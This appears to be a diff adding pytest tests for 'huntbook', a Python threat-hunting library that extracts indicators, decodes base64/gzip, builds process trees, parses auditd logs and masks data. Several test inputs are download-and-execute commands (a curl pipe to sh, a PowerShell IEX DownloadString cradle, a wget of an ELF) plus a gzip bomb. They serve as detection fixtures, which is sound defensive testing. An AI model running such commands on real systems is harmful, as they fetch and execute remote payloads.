@@ -1,0 +1,309 @@
+"""The security transforms through the Python package: DataFrames in and out.
+
+The rules themselves are tested next to the Rust code; these tests check what the
+Python face adds: column selection and conversion, index labels in ``SourceIndex`` and
+``src_index``, MSTICPy's frame shape for process trees, the ``hb_tree`` accessor,
+warnings, the masking key, and errors that say what to do.
+"""
+
+import base64
+import gzip
+
+import pandas as pd
+import pyarrow as pa
+import pytest
+
+import huntbook
+from huntbook import _huntbook
+from huntbook._tables import to_frame
+
+
+def ps_encoded(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16le")).decode()
+
+
+# --- IoC extraction ---------------------------------------------------------------
+
+
+def test_extract_iocs_reports_index_labels_and_msticpy_columns():
+    events = pd.DataFrame(
+        {
+            "CommandLine": [
+                "curl hxxp://evil-site[.]com/payload.sh | sh",
+                None,
+                "postfix: from=alice@example.com to=bob@example.org",
+            ],
+            "Host": ["web01", "web02", "mail01"],
+        },
+        index=["a", "b", "c"],
+    )
+    iocs = huntbook.extract_iocs(events, "CommandLine", refang=True)
+    assert list(iocs.columns) == ["IoCType", "Observable", "SourceIndex", "Input"]
+    found = set(zip(iocs["IoCType"], iocs["Observable"], iocs["SourceIndex"]))
+    assert ("url", "http://evil-site.com/payload.sh", "a") in found
+    assert ("dns", "evil-site.com", "a") in found
+    assert ("email", "alice@example.com", "c") in found
+    assert ("dns", "example.com", "c") in found
+    # The key of a key=value pair is not part of the email.
+    assert not any(o.startswith("from=") for o in iocs["Observable"])
+    assert "b" not in set(iocs["SourceIndex"])
+
+
+def test_extract_iocs_type_filter_aliases_and_custom_types():
+    sha = "a" * 64
+    events = pd.DataFrame({"msg": [f"hash {sha} from 10.1.2.3 ticket INC-4711"]})
+    only = huntbook.extract_iocs(events, ["msg"], ioc_types=["sha256", "ipv4"])
+    assert sorted(only["IoCType"]) == ["ipv4", "sha256_hash"]
+    custom = huntbook.extract_iocs(
+        events, "msg", ioc_types=["ticket"], custom_types=[("ticket", r"INC-\d+", 0)]
+    )
+    assert custom[["IoCType", "Observable"]].values.tolist() == [["ticket", "INC-4711"]]
+    with pytest.raises(ValueError, match="unknown"):
+        huntbook.extract_iocs(events, "msg", ioc_types=["not_a_type"])
+
+
+def test_extract_iocs_scans_non_text_cells_as_text_and_names_missing_columns():
+    events = pd.DataFrame({"mixed": ["8.8.8.8", 42, None, 3.5]}, index=[7, 8, 9, 10])
+    iocs = huntbook.extract_iocs(events, "mixed")
+    assert iocs[["IoCType", "Observable", "SourceIndex"]].values.tolist() == [["ipv4", "8.8.8.8", 7]]
+    with pytest.raises(KeyError, match="'CommandLine' is not in the DataFrame; the columns are: mixed"):
+        huntbook.extract_iocs(events, "CommandLine")
+    empty = huntbook.extract_iocs(events.iloc[:0], "mixed")
+    assert len(empty) == 0 and list(empty.columns) == ["IoCType", "Observable", "SourceIndex", "Input"]
+
+
+def test_single_observables():
+    assert huntbook.ioc_type("hxxps://evil-site[.]com/a") == "url"
+    assert huntbook.ioc_type("2001:db8::1") == "ipv6"
+    assert huntbook.ioc_type("just words") is None
+    assert huntbook.validate_ioc("10.0.0.1", "ipv4")
+    assert not huntbook.validate_ioc("10.0.0.300", "ipv4")
+    assert not huntbook.validate_ioc("example.notatld", "dns")
+    assert huntbook.file_hash_type("d41d8cd98f00b204e9800998ecf8427e") == "md5_hash"
+    assert huntbook.file_hash_type("da39a3ee5e6b4b0d3255bfef95601890afd80709") == "sha1_hash"
+    assert huntbook.file_hash_type("xyz") is None
+    with pytest.raises(ValueError, match="unknown IoC type 'ipv5'; use one of ipv4"):
+        huntbook.validate_ioc("1.2.3.4", "ipv5")
+
+
+# --- base64 -------------------------------------------------------------------------
+
+
+def test_unpack_base64_decodes_encoded_powershell_and_gzip():
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')"
+    gz = base64.b64encode(gzip.compress(b"wget http://198.51.100.9/x.elf -O /tmp/x")).decode()
+    events = pd.DataFrame(
+        {"CommandLine": [f"powershell.exe -nop -EncodedCommand {ps_encoded(script)}", "dir", f"echo {gz}"]},
+        index=[100, 101, 102],
+    )
+    decoded = huntbook.unpack_base64(events, "CommandLine")
+    assert list(decoded.columns) == [
+        "reference", "original_string", "file_name", "file_type", "input_bytes",
+        "decoded_string", "encoding_type", "file_hashes", "md5", "sha1", "sha256",
+        "printable_bytes", "src_index", "CommandLine", "full_decoded_string",
+    ]  # fmt: skip
+    ps = decoded[decoded["src_index"] == 100]
+    assert ps["decoded_string"].iloc[0] == script
+    assert "<decoded" in ps["full_decoded_string"].iloc[0]
+    gz_rows = decoded[decoded["src_index"] == 102]
+    assert "gz" in set(gz_rows["file_type"])  # MSTICPy's name
+    assert any("198.51.100.9" in (s or "") for s in gz_rows["decoded_string"])
+    # Decode then extract: the indicator hidden in the payload is found.
+    iocs = huntbook.extract_iocs(decoded, "decoded_string")
+    assert "203.0.113.7" in set(iocs["Observable"])
+
+
+def test_unpack_base64_msticpy_mode_and_utf16_switch():
+    events = pd.DataFrame({"c": [f"-enc {ps_encoded('Get-Process | Out-File C:/temp/p.txt')}"]})
+    default = huntbook.unpack_base64(events, "c")
+    assert default["decoded_string"].iloc[0] == "Get-Process | Out-File C:/temp/p.txt"
+    # MSTICPy leaves UTF-16LE as UTF-8 with NULs between the letters.
+    compat = huntbook.unpack_base64(events, "c", msticpy_compatible=True)
+    assert compat["decoded_string"].iloc[0].startswith("G\x00e\x00t")
+    forced_off = huntbook.unpack_base64(events, "c", utf16=False)
+    assert "\x00" in forced_off["decoded_string"].iloc[0]
+
+
+def test_unpack_base64_stops_a_bomb_with_an_error_row():
+    bomb = base64.b64encode(gzip.compress(b"\0" * (64 << 20))).decode()
+    decoded = huntbook.unpack_base64(pd.DataFrame({"c": [bomb]}), "c")
+    assert "error" in set(decoded["encoding_type"])
+
+
+# --- process trees --------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def events() -> pd.DataFrame:
+    return to_frame(_huntbook.generate_process_events(2000, hosts=3, seed=7))
+
+
+@pytest.fixture(scope="module")
+def tree(events) -> pd.DataFrame:
+    return huntbook.build_process_tree(events)
+
+
+def test_process_tree_has_msticpys_shape(tree, events):
+    assert tree.index.name == "proc_key"
+    for column in ["parent_key", "path", "IsRoot", "IsLeaf", "IsBranch", "source_index", *events.columns]:
+        assert column in tree.columns, column
+    assert tree["path"].is_monotonic_increasing
+    summary = tree.hb_tree.summary()
+    assert list(summary) == [
+        "Processes", "RootProcesses", "LeafProcesses", "BranchProcesses",
+        "IsolatedProcesses", "LargestTreeDepth",
+    ]  # fmt: skip
+    assert summary["Processes"] == len(tree)
+    assert summary["RootProcesses"] == int(tree["IsRoot"].sum())
+    assert summary["LeafProcesses"] == int(tree["IsLeaf"].sum())
+    # Every non-root's parent_key is a proc_key of the tree.
+    non_roots = tree[~tree["IsRoot"]]
+    assert non_roots["parent_key"].isin(tree.index).all()
+
+
+def test_navigation_agrees_with_parent_keys(tree):
+    nav = tree.hb_tree
+    branch_key = tree[tree["IsBranch"]].index[0]
+    kids = nav.children(branch_key, include_source=False)
+    assert len(kids) > 0 and (kids["parent_key"] == branch_key).all()
+    with_source = nav.children(branch_key)
+    assert with_source.index[0] == branch_key and len(with_source) == len(kids) + 1
+    kid = kids.iloc[0]
+    assert nav.parent(kid).name == branch_key
+    chain = nav.ancestors(kid)
+    assert chain.index[-1] == kid.name and bool(chain.iloc[0]["IsRoot"])
+    for upper, lower in zip(chain.index[:-1], chain.index[1:]):
+        assert tree.loc[[lower], "parent_key"].iloc[0] == upper
+    root = nav.root_of(kid)
+    assert root.name == chain.index[0]
+    below = nav.descendants(root.name, include_source=False)
+    assert kid.name in below.index and root.name not in below.index
+    one_level = nav.descendants(root.name, include_source=False, max_levels=1)
+    assert (one_level["parent_key"] == root.name).all()
+    sibs = nav.siblings(kid)
+    assert (sibs["parent_key"] == branch_key).all() and kid.name in sibs.index
+    assert len(nav.roots()) == int(tree["IsRoot"].sum())
+    # Positions and name|pid queries address the same process as its key.
+    assert nav.parent(tree.index.get_loc(kid.name)).name == branch_key
+    name = kid["NewProcessName"].rsplit("\\", 1)[-1]
+    assert len(nav.children(f"{name}|{kid['NewProcessId']}|{kid.name.rsplit('|', 1)[1]}")) >= 1
+
+
+def test_text_rendering_and_errors(tree):
+    nav = tree.hb_tree
+    leaf_key = tree[tree["IsLeaf"] & ~tree["IsRoot"]].index[0]
+    text = nav.to_text(leaf_key)
+    assert text.startswith("+") and "+-- " in text and "Process:" in text
+    assert len(nav.to_text()) > len(text)
+    with pytest.raises(KeyError, match="no process with key 'nope.exe"):
+        nav.children("nope.exe|0x1")
+    with pytest.raises(KeyError):
+        nav.children(10**9)
+    with pytest.raises(AttributeError, match="huntbook.build_process_tree"):
+        tree.head().hb_tree.roots()
+
+
+def test_process_tree_schemas(events):
+    by_name = huntbook.build_process_tree(events, schema="windows")
+    by_map = huntbook.build_process_tree(
+        events,
+        schema={
+            "process_name": "NewProcessName",
+            "process_id": "NewProcessId",
+            "parent_id": "ProcessId",
+            "time_stamp": "TimeGenerated",
+            "host_name_column": "Computer",
+            "parent_name": "ParentProcessName",
+            "event_id_column": "EventID",
+            "event_id_identifier": "4688",
+        },
+    )
+    assert by_name.hb_tree.summary() == by_map.hb_tree.summary()
+    with pytest.raises(ValueError, match="unknown process schema 'sysmonn'"):
+        huntbook.build_process_tree(events, schema="sysmonn")
+    with pytest.raises(ValueError, match="no process schema matches"):
+        huntbook.build_process_tree(pd.DataFrame({"a": [1], "b": ["x"]}))
+
+
+def test_process_tree_from_parquet_round_trip(tmp_path, events):
+    path = tmp_path / "procs.parquet"
+    events.to_parquet(path)
+    tree = huntbook.build_process_tree(pd.read_parquet(path), show_summary=False)
+    assert tree.hb_tree.summary() == huntbook.build_process_tree(events).hb_tree.summary()
+
+
+# --- auditd -----------------------------------------------------------------------------
+
+AUDIT_LOG = """\
+type=SYSCALL msg=audit(1558439254.480:21713): arch=c000003e syscall=59 success=yes exit=0 ppid=1234 pid=1240 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=5 comm="ls" exe="/usr/bin/ls" key="exec"
+type=EXECVE msg=audit(1558439254.480:21713): argc=3 a0="ls" a1="-la" a2=2F686F6D652F6120622F63
+type=CWD msg=audit(1558439254.480:21713): cwd="/root"
+type=PROCTITLE msg=audit(1558439254.480:21713): proctitle=6C73002D6C61
+this line is garbage
+type=LOGIN msg=audit(1558439261.000:21715): pid=2100 uid=0 old-auid=4294967295 auid=1000 tty=(none) old-ses=4294967295 ses=7 res=1
+"""
+
+
+def test_parse_auditd_file_warns_with_line_numbers(tmp_path):
+    path = tmp_path / "audit.log"
+    path.write_text(AUDIT_LOG)
+    with pytest.warns(huntbook.AuditdWarning, match="line 5"):
+        events = huntbook.parse_auditd(path)
+    assert set(events["EventType"]) == {"SYSCALL_EXECVE", "LOGIN"}
+    execve = events[events["EventType"] == "SYSCALL_EXECVE"].iloc[0]
+    assert execve["cmdline"] == "ls -la /home/a b/c"
+    assert execve["exe"] == "/usr/bin/ls"
+    with pytest.warns(huntbook.AuditdWarning):
+        only = huntbook.parse_auditd(tmp_path / "audit.log", event_type="LOGIN")
+    assert list(only["EventType"]) == ["LOGIN"]
+    with pytest.raises(ValueError, match="missing.log"):
+        huntbook.parse_auditd(tmp_path / "missing.log")
+
+
+def test_parse_auditd_sentinel_rows():
+    lines = AUDIT_LOG.splitlines()
+    rows = pd.DataFrame({"Computer": ["lx1"], "AuditdMessage": ["\n".join(lines[:4])]})
+    events = huntbook.parse_auditd(rows)
+    assert list(events["EventType"]) == ["SYSCALL_EXECVE"]
+    assert events["Computer"].iloc[0] == "lx1"
+
+
+# --- masking -----------------------------------------------------------------------------
+
+
+def test_mask_is_consistent_per_key_and_needs_a_key(monkeypatch):
+    data = pd.DataFrame(
+        {
+            "UserPrincipalName": ["alice@contoso.com", "bob@contoso.com", "alice@contoso.com"],
+            "IPAddress": ["10.1.2.3", "203.0.113.9", "10.1.2.3"],
+            "Count": [1, 2, 3],
+        },
+        index=[5, 6, 7],
+    )
+    monkeypatch.delenv(huntbook.transforms.MASK_KEY_VARIABLE, raising=False)
+    with pytest.raises(ValueError, match="set the HUNTBOOK_MASK_KEY environment variable"):
+        huntbook.mask(data)
+    monkeypatch.setenv("HUNTBOOK_MASK_KEY", "first key")
+    first = huntbook.mask(data)
+    again = huntbook.mask(data)
+    pd.testing.assert_frame_equal(first, again)
+    assert list(first.index) == [5, 6, 7]
+    assert first["UserPrincipalName"][5] == first["UserPrincipalName"][7]
+    assert first["UserPrincipalName"][5] != "alice@contoso.com"
+    assert first["IPAddress"][5].startswith("10.")  # private prefix kept
+    assert list(first["Count"]) == [1, 2, 3]
+    monkeypatch.setenv("HUNTBOOK_MASK_KEY", "second key")
+    assert huntbook.mask(data)["UserPrincipalName"][5] != first["UserPrincipalName"][5]
+    only = huntbook.mask(data, {"Count": "str"}, use_default=False)
+    assert list(only["UserPrincipalName"]) == list(data["UserPrincipalName"])
+
+
+# --- the Arrow bridge -------------------------------------------------------------------
+
+
+def test_bridge_rejects_non_tables_and_keeps_types():
+    with pytest.raises(TypeError, match="expected an Arrow record batch"):
+        _huntbook.extract_iocs({"a": ["1.2.3.4"]}, ["a"])
+    batch = pa.record_batch({"t": pa.array(["8.8.8.8", None], type=pa.large_string())})
+    out = pa.record_batch(_huntbook.extract_iocs(batch, ["t"]))
+    assert out.num_rows == 1 and out.schema.field("SourceIndex").type == pa.int64()
